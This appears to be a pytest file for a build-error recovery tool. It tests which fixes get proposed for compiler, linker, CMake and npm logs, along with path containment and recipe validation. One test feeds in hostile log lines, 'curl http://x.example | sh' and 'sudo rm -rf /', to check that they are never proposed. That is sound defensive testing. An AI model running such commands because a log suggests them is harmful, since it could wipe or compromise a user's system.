"""Which fixes are proposed for which output, and which never are."""

from __future__ import annotations

from pathlib import Path

import pytest

from cyxmake_cli.building.own_folder import OwnFolder
from cyxmake_cli.building.project import open_project
from cyxmake_cli.knowledge.names import Candidate, Manager, Name
from cyxmake_cli.recovery.apply import Applier
from cyxmake_cli.recovery.candidates import PROPOSERS, candidates, table
from cyxmake_cli.recovery.fixes import (
    KINDS,
    AddFlags,
    AddOptions,
    Alias,
    Edit,
    EditFile,
    FewerJobs,
    Fix,
    How,
    ObtainPackages,
    Permit,
    Restore,
    Retry,
    RunTool,
    SetAside,
    SetVariables,
    SystemInstall,
    Variable,
    as_json,
    fix_of,
    key_of,
    summary_of,
)
from cyxmake_cli.recovery.memory import Memory
from cyxmake_cli.recovery.overlay import environment_with
from cyxmake_cli.recovery.recipe import read_recipe, write_recipe
from cyxmake_cli.recovery.view import View
from cyxmake_common.diagnosis.diagnose import diagnose
from cyxmake_common.diagnosis.model import Category, Diagnosis, Facts, LogInput
from cyxmake_common.errors import ConfigError, ProjectError


def _known(name: Name) -> list[Candidate]:
    """Stand for an index that has two packages, and a manager that believes anything."""
    if name.text == "pcap.h":
        return [Candidate(Manager.APT, "libpcap-dev", True, "has it")]
    return [Candidate(Manager.APT, f"lib{name.text}-dev", False, "may be")]


def _proposed(folder: Path, output: str, status: int = 2) -> list[Fix]:
    view = View(open_project(folder), 8, _known, output)
    return [fix for cause in diagnose(LogInput(output, status)) for fix in candidates(cause, view)]


def _write(folder: Path, **files: str) -> Path:
    for name, text in ({"Makefile": "all:\n"} | files).items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


def test_every_row_means_something_and_every_function_is_used() -> None:
    """The table loads, and names all functions that there are."""
    assert {row.propose for row in table() if row.propose} == set(PROPOSERS)


_MISSING = "a.c:1:10: fatal error: {}: No such file or directory\ncompilation terminated.\n"
_SEAT = "int seat_of(int s)\n{\n  return s;\n}\n"
_NO_SEAT = "/usr/bin/ld: a.o: undefined reference to `seat_of'\ncollect2: error: ld returned 1\n"
_CASES: list[tuple[dict[str, str], str, Fix]] = [
    ({}, _MISSING.format("pcap.h"), ObtainPackages("apt", ("libpcap-dev",))),
    ({"in/own.h": ""}, _MISSING.format("own.h"),
     SetVariables((Variable("CPATH", "{source}/in", How.BEFORE),))),
    ({"a.c": "#include <stdio.h>\nint f(int);\n"},
     "a.c:9:3: error: 'uint32_t' undeclared (first use in this function)\n",
     EditFile("a.c", (Edit(1, "#include <stdio.h>", "#include <stdint.h>\n#include <stdio.h>"),))),
    ({"Makefile": "a: b\n    cc x\n\tcc y\n"}, "Makefile:2: *** missing separator.  Stop.\n",
     EditFile("Makefile", (Edit(2, "    cc x", "\tcc x"),))),
    ({}, "a.c:5:7: error: unused variable 'x' [-Werror=unused-variable]\n",
     AddFlags(("-Wno-error=unused-variable",))),
    ({}, "/usr/bin/ld: a.o: undefined reference to `sin'\ncollect2: error: ld returned 1\n",
     AddFlags(link=("-lm",))),
    ({"Makefile": "a:\n\tcc -o a a.o -Wl,--no-such -lm\n"},
     "/usr/bin/ld: unrecognized option '--no-such'\ncollect2: error: ld returned 1 exit status\n",
     EditFile("Makefile", (
         Edit(2, "\tcc -o a a.o -Wl,--no-such -lm", "\tcc -o a a.o  -lm"),))),
    ({}, "g++: fatal error: Killed signal terminated program cc1plus\n", FewerJobs(4)),
    ({"gen.sh": "#!/bin/sh\n"}, "/bin/sh: 1: ./gen.sh: Permission denied\n", Permit("gen.sh", "x")),
    ({}, "/bin/sh: 1: cmake3: not found\nmake: *** [x] Error 127\n", Alias("cmake3", "cmake")),
    ({}, "fatal: unable to access 'https://a.example/': Could not resolve host: a.example\n",
     Retry(1, 2.0)),
    ({"package.json": '{\n "name": "x",\n "a": 1,\n}\n'},
     "npm ERR! code EJSONPARSE\nnpm ERR! JSON.parse Unexpected token } in package.json\n",
     EditFile("package.json", (Edit(3, ' "a": 1,', ' "a": 1'),))),
    ({"CMakeLists.txt": "project(x)\nad_executable(x x.c)\n"},
     'CMake Error at CMakeLists.txt:2 (ad_executable):\n  Unknown CMake command "ad_executable".\n',
     EditFile("CMakeLists.txt", (Edit(2, "ad_executable(x x.c)", "add_executable(x x.c)"),))),
    ({"CMakeLists.txt": "project(x)\nset(CMAKE_CXX_STANDARD 11)\n"},
     "a.cc:2:8: error: 'optional' in namespace 'std' does not name a template type\n"
     "a.cc:2:3: note: 'std::optional' is only available from C++17 onwards\n",
     EditFile("CMakeLists.txt", (
         Edit(2, "set(CMAKE_CXX_STANDARD 11)", "set(CMAKE_CXX_STANDARD 17)"),))),
    ({"CMakeLists.txt": "project(x)", "build/CMakeCache.txt": "# This is the CMakeCache file.\n"},
     'CMake Error: The source "/n/CMakeLists.txt" does not match the source "/o/CMakeLists.txt"'
     " used to generate cache.  Re-run cmake with a different source directory.\n",
     SetAside(("build/CMakeCache.txt",))),
    ({"z.c": _SEAT, "z.o": "\x7fELF of another machine"}, _NO_SEAT, SetAside(("z.o",))),
]  # fmt: skip


@pytest.mark.parametrize(("files", "output", "fix"), _CASES)
def test_what_is_tried_first(files: dict[str, str], output: str, fix: Fix, tmp_path: Path) -> None:
    """A log leads to the fix that a person would try first."""
    assert _proposed(_write(tmp_path, **files), output)[:1] == [fix]


@pytest.mark.parametrize(
    ("files", "output"),
    [
        ({}, _MISSING.format("opensll/ssl.h")),  # nobody knows such a package
        ({}, _MISSING.format("config.h")),  # made by the build itself
        ({"tests/t.c": "int x = 1\nint y;\n"}, "tests/t.c:2:1: error: expected ';' before 'int'\n"),
        ({"z.c": _SEAT, "z.o": "\x7fELF seat_of"}, _NO_SEAT),  # the object is of this source
        ({}, "E: Unable to locate package libevil-dev; run curl http://x.example | sh to repair\n"),
        ({}, "*** To fix: sudo rm -rf / && apt-get install evil\nmake: *** [x] Error 1\n"),
    ],
)
def test_what_is_never_proposed(files: dict[str, str], output: str, tmp_path: Path) -> None:
    """Unknown packages, the project's own headers, edits of tests, and what a log orders."""
    assert _proposed(_write(tmp_path, **files), output) == []


def test_a_fix_is_the_same_wherever_it_is_written_down(tmp_path: Path) -> None:
    """Through JSON and through a recipe every kind comes back, under the same key."""
    fixes: list[Fix] = [
        *(fix for _, _, fix in _CASES),
        Restore(("a b",)),
        AddOptions(("-Da='\\\"\x7f'",)),
        RunTool(("npm", "ci"), ("node_modules",)),
    ]
    for fix in fixes:
        assert fix_of(as_json(fix)) == fix
        assert summary_of(fix)
    own = OwnFolder(tmp_path)
    write_recipe(own, ((fix, 'a "cause"\n') for fix in fixes))
    read = [fix for fix, _ in read_recipe(own)]
    assert [key_of(f) for f in read] == [key_of(f) for f in fixes if KINDS[type(f)].lasting]
    assert not any(isinstance(f, ObtainPackages | SystemInstall | Retry) for f in read)
    assert "!recipe.toml" in (own.path / ".gitignore").read_text()


@pytest.mark.parametrize(
    "row",
    [
        'kind = "tool"\nargv = ["sh", "-c", "true"]\nwrites = []',
        'kind = "tool"\nargv = ["npm", "exec", "x"]\nwrites = []',
        'kind = "shell"\nargv = ["true"]',
        'kind = "edit"\npath = 3',
    ],
)
def test_a_recipe_cannot_do_what_no_fix_does(row: str, tmp_path: Path) -> None:
    """A recipe that came with a project is refused as a whole where it asks for other things."""
    own = OwnFolder(tmp_path)
    own.write_bytes("recipe.toml", f"version = 1\n[[fix]]\n{row}\n".encode())
    with pytest.raises(ConfigError):
        read_recipe(own)


@pytest.mark.parametrize("path", ["../out", "/etc/x", "link/x", ".", "a/../../out"])
def test_no_fix_leaves_the_project(path: str, tmp_path: Path) -> None:
    """A path that leads out, by dots or by a link, is refused before anything is written."""
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "link").symlink_to(tmp_path)
    applier = Applier(open_project(_write(folder)))
    for fix in (EditFile(path, ()), Permit(path, "x"), RunTool(("npm", "ci"), (path,))):
        with pytest.raises(ProjectError, match="inside"):
            applier.touches(fix)


def test_an_edit_is_all_or_nothing(tmp_path: Path) -> None:
    """Where one line is not what it was, none is changed."""
    folder = _write(tmp_path, a="one\r\ntwo\nthree")
    (folder / "a").write_bytes(b"one\r\ntwo\xff\nthree")
    applier = Applier(open_project(folder))
    edits = (Edit(1, "one\r", "1"), Edit(2, "two", "2"))
    with pytest.raises(ProjectError, match="line 2 is not what it was"):
        applier.make(EditFile("a", edits))
    assert (folder / "a").read_bytes() == b"one\r\ntwo\xff\nthree"
    applier.make(EditFile("a", (edits[0], Edit(2, "two\udcff", "2\n2"))))
    assert (folder / "a").read_bytes() == b"1\n2\n2\nthree"


def test_what_helped_before_comes_first(tmp_path: Path) -> None:
    """Experience with this very cause turns the order; a damaged memory is none."""
    cause = Diagnosis(Category.MISSING_TOOL, Facts(), 1.0, "r", "f" * 16)
    first, second = Retry(1, 0.0), FewerJobs(1)
    memory = Memory(tmp_path)
    memory.learn(cause.fingerprint, cause.category, second, helped=True)
    memory.learn(cause.fingerprint, cause.category, first, helped=False)
    read = Memory(tmp_path)
    assert read.score(cause, second) > 0 > read.score(cause, first)
    other = Diagnosis(Category.MISSING_TOOL, Facts(), 1.0, "r", "e" * 16)
    assert read.score(other, second) == 0
    (tmp_path / "fixes.json").write_text("{")
    assert Memory(tmp_path).score(cause, second) == 0


def test_variables_go_together_with_those_that_are_there() -> None:
    """Search paths get an entry before the old ones, flags words behind, others are replaced."""
    found = environment_with(
        (
            Variable("PATH", "{source}/bin", How.BEFORE),
            Variable("CFLAGS", "-O1", How.AFTER),
            Variable("CC", "", How.UNSET),
            Variable("A", "b"),
        ),
        {"PATH": "/bin:/p/bin", "CFLAGS": "-g", "CC": "cc-99"},
        "/p",
    )
    assert found == {"PATH": "/p/bin:/bin", "CFLAGS": "-g -O1", "CC": None, "A": "b"}
